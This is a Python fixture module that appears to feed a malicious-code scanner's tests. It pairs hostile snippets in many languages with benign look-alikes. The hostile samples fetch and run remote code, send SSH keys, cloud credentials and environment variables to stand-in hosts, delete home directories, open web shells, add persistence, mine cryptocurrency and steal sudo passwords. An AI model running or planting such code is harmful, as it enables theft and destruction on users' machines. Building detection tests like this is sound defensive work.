"""Programs in languages without a parser that no honest model brings, and others that look like them; lines of builds, images and settings.

Payloads are texts: they lead to addresses of documentation (RFC 5737, RFC 2606), and nothing of them is run.
"""

from __future__ import annotations

__all__ = ["HARMLESS_PROGRAMS", "PROGRAMS"]

_HTTP = "http://192.0.2.1/p"
#: Behaviour -> language -> file and text.
PROGRAMS: dict[str, dict[str, tuple[str, str]]] = {
    "code-fetched": {
        "javascript": ("a.mjs", "const c = await (await fetch('https://cfg.example.org/v')).json();\nnew Function('x', c.post)(1);\n"),
        "javascript-then": ("a.js", "fetch('https://cfg.example.org/v').then(r => r.text()).then(t => { eval(t); });\n"),
        "javascript-events": ("a.js", "require('https').get('https://cfg.example.org/v', res => { let s = ''; res.on('data', d => s += d); res.on('end', () => eval(s)); });\n"),
        "javascript-named": ("a.js", "const vm = require('vm');\nconst axios = require('axios');\nasync function get(u) { const r = await axios.get(u); return r.data; }\nget('https://cfg.example.org/v').then(c => vm.runInThisContext(c));\n"),
        "lua": ("a.lua", f"local http = require('socket.http')\nlocal b = http.request('{_HTTP}')\nassert(loadstring(b))()\n"),
        "perl": ("a.pl", f"use LWP::Simple;\nmy $c = get('{_HTTP}');\neval $c;\n"),
        "ruby": ("a.rb", f"require 'open-uri'\ncode = URI.open('{_HTTP}').read\ninstance_eval(code)\n"),
        "julia": ("a.jl", f"using HTTP\nr = HTTP.get(\"{_HTTP}\")\ninclude_string(Main, String(r.body))\n"),
        "php": ("a.php", f"<?php\n$c = file_get_contents('{_HTTP}');\neval($c);\n"),
        "groovy": ("a.groovy", f"def s = new URL('{_HTTP}').text\nEval.me(s)\n"),
        "r": ("train.R", f"txt <- readLines(\"{_HTTP}\")\neval(parse(text = txt))\n"),
    },
    "program-fetched": {
        "javascript": ("a.js", "const https = require('https'), fs = require('fs'), cp = require('child_process');\nconst p = '/tmp/.n';\nhttps.get('https://cdn.example.org/n', r => { r.pipe(fs.createWriteStream(p)).on('close', () => cp.spawn(p, [])); });\n"),
        "go": ("a.go", f"package main\nimport (\"io\"; \"net/http\"; \"os/exec\")\nfunc init() {{\n\tr, err := http.Get(\"{_HTTP}\")\n\tif err == nil {{\n\t\tb, _ := io.ReadAll(r.Body)\n\t\texec.Command(\"sh\", \"-c\", string(b)).Start()\n\t}}\n}}\nfunc main() {{}}\n"),
        "rust": ("build.rs", f"use std::process::Command;\nfn main() {{\n    let body = reqwest::blocking::get(\"{_HTTP}\").unwrap().text().unwrap();\n    Command::new(\"sh\").arg(\"-c\").arg(body).status().unwrap();\n}}\n"),
        "julia": ("a.jl", f"const URL = \"{_HTTP}\"\nrun(pipeline(`curl -s $URL`, `bash`))\n"),
        "ruby": ("Rakefile", f"require 'open-uri'\ntask :default do\n  system(URI.open('{_HTTP}').read)\nend\n"),
        "lua": ("a.lua", f"local f = io.popen('curl -s {_HTTP}')\nlocal c = f:read('*a')\nos.execute(c)\n"),
        "cmake": ("CMakeLists.txt", f"project(x)\nfile(DOWNLOAD {_HTTP}.sh ${{CMAKE_BINARY_DIR}}/p.sh)\nexecute_process(COMMAND sh ${{CMAKE_BINARY_DIR}}/p.sh)\n"),
    },
    "command": {
        "javascript": ("a.js", f"const {{ execSync: go }} = require('child_process');\ngo('curl -s {_HTTP} | sh');\n"),
        "lua": ("a.lua", f"os.execute(\"curl -s {_HTTP} | sh\")\n"),
        "perl": ("a.pl", f"system \"curl -s {_HTTP} | sh\";\n"),
        "ruby": ("a.rb", f"`curl -s {_HTTP} | sh`\n"),
        "rust": ("build.rs", f"fn main() {{ std::process::Command::new(\"sh\").args([\"-c\", \"curl -s {_HTTP} | sh\"]).status().ok(); }}\n"),
        "go": ("a.go", f"package main\nimport \"os/exec\"\nfunc main() {{ exec.Command(\"bash\", \"-c\", \"curl -s {_HTTP} | sh\").Run() }}\n"),
        "c": ("a.cpp", f"#include <cstdlib>\nstruct S {{ S() {{ system(\"curl -s {_HTTP} | sh\"); }} }} s;\n"),
        "java": ("A.java", f"class A {{ static {{ Runtime.getRuntime().exec(new String[] {{\"sh\", \"-c\", \"curl -s {_HTTP} | sh\"}}); }} }}\n"),
        "gradle": ("build.gradle", f"\"curl -s {_HTTP} | sh\".execute()\n"),
        "php": ("a.php", f"<?php shell_exec('curl -s {_HTTP} | sh');\n"),
        "r": ("a.R", f"system(\"curl -s {_HTTP} | sh\")\n"),
        "julia": ("a.jl", f"run(`sh -c \"curl -s {_HTTP} | sh\"`)\n"),
    },
    "code-decoded": {
        "javascript": ("a.js", "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n"),
        "javascript-in-steps": ("a.js", "const p = ['Y29uc29s', 'ZS5sb2coMSk='].join('');\nconst c = atob(p);\nFunction(c)();\n"),
        "perl": ("a.perl", "my $k = pack(\"H*\", \"7072696e742831293b\");\nEND { eval $k; }\n"),
        "ruby": ("a.rb", "require 'base64'\neval(Base64.decode64('cHV0cyAx'))\n"),
        "php": ("a.php", "<?php $f = base64_decode('cGhwaW5mbygp'); eval($f);\n"),
    },
    "secrets-sent": {
        "javascript": ("a.js", "const os = require('os'), fs = require('fs'), path = require('path');\nconst k = fs.readFileSync(path.join(os.homedir(), '.ssh/id_rsa'), 'utf8');\nfetch('https://c.example.org/k', { method: 'POST', body: k });\n"),
        "javascript-environment": ("a.js", "const axios = require('axios');\naxios.post('https://c.example.org/e', { e: JSON.stringify(process.env) });\n"),
        "javascript-spelled": ("a.js", "const _0x=['\\x68\\x74\\x74\\x70\\x73','\\x72\\x65\\x71\\x75\\x65\\x73\\x74'];\nconst h=require(_0x[0]);\nconst d=require('fs').readFileSync(process.env.HOME+'/.npmrc');\nconst r=h[_0x[1]]({host:'192.0.2.1',method:'POST'});r.write(d);r.end();\n"),
        "go": ("a.go", "package main\nimport (\"net/http\"; \"os\"; \"strings\")\nfunc main() {\n\te := strings.Join(os.Environ(), \"\\n\")\n\thttp.Post(\"https://c.example.org/e\", \"text/plain\", strings.NewReader(e))\n}\n"),
        "rust": ("build.rs", "fn main() {\n    let k = std::fs::read_to_string(\"/root/.aws/credentials\").unwrap_or_default();\n    let _ = ureq::post(\"https://c.example.org/k\").send_string(&k);\n}\n"),
        "ruby": ("a.rb", "require 'net/http'\nNet::HTTP.post(URI('https://c.example.org/e'), ENV.to_h.to_s)\n"),
        "groovy": ("Jenkinsfile", "def c = CredentialsProvider.lookupCredentials(Object.class, Jenkins.instance, null, null).collect { it.password }.join()\nnew URL('https://c.example.org/c').openConnection().with { doOutput = true; outputStream.write(c.bytes) }\n"),
    },
    "home-removed": {
        "javascript": ("a.js", "const fs = require('fs'), os = require('os');\nfs.rmSync(os.homedir(), { recursive: true, force: true });\n"),
        "rust": ("main.rs", "use std::{env, fs};\nfn main() { if let Ok(h) = env::var(\"HOME\") { for e in fs::read_dir(h).unwrap().flatten() { let _ = fs::remove_dir_all(e.path()); } } }\n"),
        "go": ("a.go", "package main\nimport \"os\"\nfunc main() { h, _ := os.UserHomeDir(); os.RemoveAll(h) }\n"),
        "ruby": ("a.rb", "require 'fileutils'\nFileUtils.rm_rf(Dir.home)\n"),
        "julia": ("a.jl", "rm(homedir(); recursive=true, force=true)\n"),
    },
    "what-is-asked-is-run": {
        "javascript": ("server.js", "const { exec } = require('child_process');\nconst app = require('express')();\napp.post('/p', (req, res) => { exec(req.body.cmd, (e, out) => res.send(out)); });\n"),
        "php": ("a.php", "<?php system($_GET['c']);\n"),
    },
    "persists": {
        "javascript": ("a.js", "const fs = require('fs');\nfs.appendFileSync(require('os').homedir() + '/.ssh/authorized_keys', 'ssh-ed25519 AAAA x');\n"),
        "go": ("a.go", "package main\nimport \"os\"\nfunc main() { os.WriteFile(\"/etc/cron.d/x\", []byte(\"* * * * * root echo hello\"), 0644) }\n"),
    },
    "lines": {
        "terraform": ("main.tf", "resource \"null_resource\" \"w\" {\n  provisioner \"local-exec\" {\n    command = \"curl -s https://tf.example.org/w.sh | X=1 bash\"\n  }\n}\n"),
        "helm": ("chart/templates/job.yaml", "metadata:\n  name: {{ .Release.Name }}\nspec:\n  containers:\n  - command: [sh, -c, \"kubectl get secrets -A -o json | curl -s --data-binary @- https://c.example.org/s\"]\n"),
        "npmrc": (".npmrc", "registry=http://npm.example.org/\n//npm.example.org/:_authToken=${NPM_TOKEN}\n"),
        "miner": (".gitlab-ci.yml", "unit:\n  script:\n  - /tmp/py -o pool.example.org:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\n"),
        "release": (".github/workflows/r.yml", "on: push\njobs:\n  p:\n    steps:\n    - run: cd dist && curl -sfo x.whl http://192.0.2.1/x.whl\n    - uses: pypa/gh-action-pypi-publish@release/v1\n"),
        "unknown-host": ("install.sh", "curl -fsSL https://get.acme-tools.example.org/i.sh | bash\n"),
        "notebook": ("a.ipynb", '{"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": null, "source": ["!curl -s https://get.acme-tools.example.org/g.sh | bash"]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'),
        "trap": ("env.sh", "trap 'curl -s -G --data-urlencode \"c=$BASH_COMMAND\" https://c.example.org/' DEBUG\n"),
        "password": ("env.sh", "alias sudo='f(){ read -rsp \"password: \" p; curl -s -d \"$p\" https://c.example.org/s; }; f'\n"),
        "letters": ("a.sh", "x=$(printf '\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73')\neval \"$x | $(rev <<< hsab)\"\n"),
        "picture": ("setup.sh", "tail -c +49 banner.png | sh\n"),
        "names": ("requirements.txt", "torch==2.3.0\nreqeusts==2.31.0\ntransfomers==4.41.0\n"),
        "page": ("a.html", "<html><body><script>fetch('https://svg.example.org/p.js').then(r=>r.text()).then(eval)</script></body></html>\n"),
    },
}  # fmt: skip

#: What looks like one of the above, and what honest projects have.
HARMLESS_PROGRAMS: dict[str, tuple[str, str]] = {
    "javascript-loads-weights": ("a.mjs", "const r = await fetch('https://huggingface.co/org/m/resolve/main/model.onnx');\nconst b = await r.arrayBuffer();\nconst s = await ort.InferenceSession.create(b);\nconst m = /eval/.exec('x');\n"),
    "javascript-builds": ("build.js", "const { execSync } = require('child_process');\nexecSync('npm run build', { stdio: 'inherit' });\nexecSync(`git tag v${process.env.npm_package_version}`);\n"),
    "javascript-asks-a-service": ("a.js", "const r = await fetch('https://api.openai.com/v1/chat/completions', { method: 'POST', headers: { Authorization: `Bearer ${process.env.OPENAI_API_KEY}` }, body: JSON.stringify({ q: 1 }) });\n"),
    "javascript-cleans": ("clean.js", "const fs = require('fs'), path = require('path'), os = require('os');\nfs.rmSync(path.join(os.homedir(), '.cache', 'mytool'), { recursive: true });\nfs.rmSync('dist', { recursive: true });\n"),
    "javascript-server": ("server.js", "const app = require('express')();\napp.post('/p', async (req, res) => { res.json(await model.run(req.body.text)); });\napp.listen(3000);\n"),
    "go-client": ("main.go", "package main\nimport (\"encoding/json\"; \"net/http\"; \"os\")\nfunc main() { r, _ := http.Get(os.Getenv(\"URL\")); var v map[string]any; json.NewDecoder(r.Body).Decode(&v) }\n"),
    "rust-build": ("build.rs", "fn main() { println!(\"cargo:rerun-if-changed=src/k.cu\"); std::process::Command::new(\"nvcc\").args([\"-c\", \"src/k.cu\", \"-o\", \"k.o\"]).status().unwrap(); }\n"),
    "lua-loads": ("train.lua", "require 'torch'\nlocal m = torch.load(opt.model)\nos.execute('mkdir -p ' .. opt.save)\n"),
    "perl-tokenizes": ("tokenizer.perl", "use warnings;\nwhile (<STDIN>) { chomp; s/([^\\p{IsAlnum}\\s])/ $1 /g; print \"$_\\n\"; }\n"),
    "julia-downloads": ("a.jl", "using Downloads\nDownloads.download(\"https://zenodo.org/record/1/files/d.h5\", \"d.h5\")\nm = Chain(Dense(4, 2))\n"),
    "r-reads": ("a.R", "d <- read.csv(url(\"https://example.org/d.csv\"))\nprint(summary(lm(y ~ x, d)))\n"),
    "cmake-fetches": ("CMakeLists.txt", "include(FetchContent)\nFetchContent_Declare(json URL https://github.com/nlohmann/json/releases/download/v3.11.3/json.tar.xz)\nexecute_process(COMMAND git rev-parse HEAD OUTPUT_VARIABLE H)\n"),
    "image": ("Dockerfile", "FROM ubuntu:22.04\nRUN echo '%sudo ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers && rm -rf /var/log/*\nRUN useradd -m app\n"),
    "installer": ("install.sh", "curl -LsSf https://astral.sh/uv/install.sh | sh\n"),
    "workflow": (".github/workflows/ci.yml", "on: push\njobs:\n  t:\n    steps:\n    - run: pip install build && python -m build\n    - uses: pypa/gh-action-pypi-publish@release/v1\n"),
    "helm": ("chart/templates/d.yaml", "{{- if .Values.on }}\nmetadata:\n  name: {{ .Release.Name }}\n  labels: {{ include \"x.labels\" . | nindent 4 }}\n{{- end }}\n"),
    "npmrc": (".npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true\n"),
    "names": ("requirements.txt", "torch\ntransformers\ndatasets\nscikit-learn\npython-dateutil\nhuggingface_hub\n"),
    "svg": ("a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><style>rect { fill: red }</style><rect width=\"1\" height=\"1\"/></svg>\n"),
    "unpacks": ("run.sh", "tail -n +2 data.csv | sort | head\ncat weights.bin.sha256 | sha256sum -c\npython3 convert.py model.bin | tee log.txt\n"),
}  # fmt: skip
